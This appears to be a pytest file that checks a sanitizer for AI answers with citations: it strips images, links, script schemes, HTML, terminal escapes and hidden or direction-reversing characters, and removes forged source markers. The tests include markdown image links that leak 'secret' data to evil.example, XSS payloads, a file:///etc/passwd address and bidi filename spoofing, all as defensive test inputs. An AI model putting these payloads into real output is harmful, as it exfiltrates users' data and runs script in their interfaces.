"""Nothing in an answer loads, runs, hides or drives a terminal."""

import pytest
from turns import passage, runtime, turn

from nodes.cite import cite
from nodes.safety import harmless, uncited, web_address


@pytest.mark.rule("S8")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](https://evil.example/?q=secret) here.", "See x here."),
        ("![](https://evil.example/a.png)", ""),
        ("![x][ref]\n\n[ref]: https://evil.example/a.png", "x\n\n"),
        ("Read [the guide](https://evil.example/?q=secret).", "Read the guide."),
        ("Read [the guide](<javascript:alert(1)>).", "Read the guide."),
        ("Go to https://evil.example/?q=secret now.", "Go to … now."),
        ("Go to <https://evil.example/x> now.", "Go to <…> now."),
        ("詳しくはhttps://evil.example/?q=秘密。", "詳しくは…。"),
        ("javascript:alert(1)", "javascriptalert(1)"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("</p><script>alert(1)</script>", "&lt;/p>&lt;script>alert(1)&lt;/script>"),
        ("a < b and 3 <4", "a < b and 3 <4"),
        ("\x1b[31mred\x1b[0m \x07", "[31mred[0m "),
        ("abc\u202egnp.exe\u2066x\u2069", "abcgnp.exex"),
        ("hid\U000e0041\U000e0042den\u200b\ufeff", "hidden"),
        ("男👨‍👩‍👧です", "男👨‍👩‍👧です"),
    ],
)
def test_what_could_load_run_or_hide_is_taken_out(text, shown):
    """S8: images, links, schemes, HTML, terminal, direction and tag characters."""
    assert harmless(text) == shown


@pytest.mark.rule("S8")
def test_an_address_that_a_source_has_stays():
    """S8: cited addresses only."""
    source = "Order at https://shop.example/parts today."
    assert harmless("Order at https://shop.example/parts.", source) == "Order at https://shop.example/parts."
    assert harmless("Order at https://shop.example/parts?q=1.", source) == "Order at …"


@pytest.mark.rule("S8")
def test_code_stays_as_it_is_but_for_what_is_unseen():
    """S8: nothing is loaded or run from a code block."""
    block = "```html\n<a href='https://a.example'>x</a>\n```"
    assert harmless(f"Write:\n\n{block}\n\nand `<b>`\u202e.") == f"Write:\n\n{block}\n\nand `<b>`."
    assert harmless("```\n<img src=x>") == "```\n&lt;img src=x>"


@pytest.mark.rule("S8")
@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "", None])
def test_only_addresses_of_the_web_may_be_opened(url):
    """S8: allowed schemes."""
    assert web_address(url) is None
    assert web_address("https://a.example/") == "https://a.example/"


@pytest.mark.rule("S8")
async def test_an_answer_is_harmless_and_its_quote_is_verbatim():
    """S8: in the state itself, for every front end; the quote is evidence and keeps every character."""
    text = "Backups ![x](https://evil.example/a.png) are kept for 35 days."
    kept = [passage("p1", text, title="Ops\u202e", url="javascript:alert(1)")]
    claim = {"text": "Kept for 35 days ![x](https://evil.example/?q=secret).", "passage": 1, "quote": text}
    update = await cite(turn(kept=kept, claims=[claim]), runtime())
    assert update["answer"] == "Kept for 35 days x. [1]"
    assert update["messages"][0].text == update["answer"]
    source = update["citations"][0]
    assert (source["quote"], source["title"], source["url"]) == (text, "Ops", None)


FORGED = "Hello! It weighs 4 kg [1][2]. ✓\n\nSources:\n[1] Manual (x.md): “It weighs 4 kg.” ✓\n- [2] 手引き(y.md)：「4kg」\nBye."


@pytest.mark.rule("S8")
def test_a_reply_without_sources_shows_none():
    """S8: markers, ticks and lines of sources are gone; the words stay."""
    assert uncited(FORGED) == "Hello! It weighs 4 kg.\n\nBye."


@pytest.mark.parametrize("said", ["{}", '{"claims": []}', '```json\n{"claims": []}\n```', "[1]", '{"claims": [', "[1] x.md: “4 kg” ✓"])
def test_data_and_sources_alone_are_no_reply(said):
    assert uncited(said) == ""


@pytest.mark.parametrize("said", ["You are welcome!", "どういたしまして。", "The sources are your documents.", "Try a[0] or {name}."])
def test_plain_small_talk_stays(said):
    assert uncited(said) == said
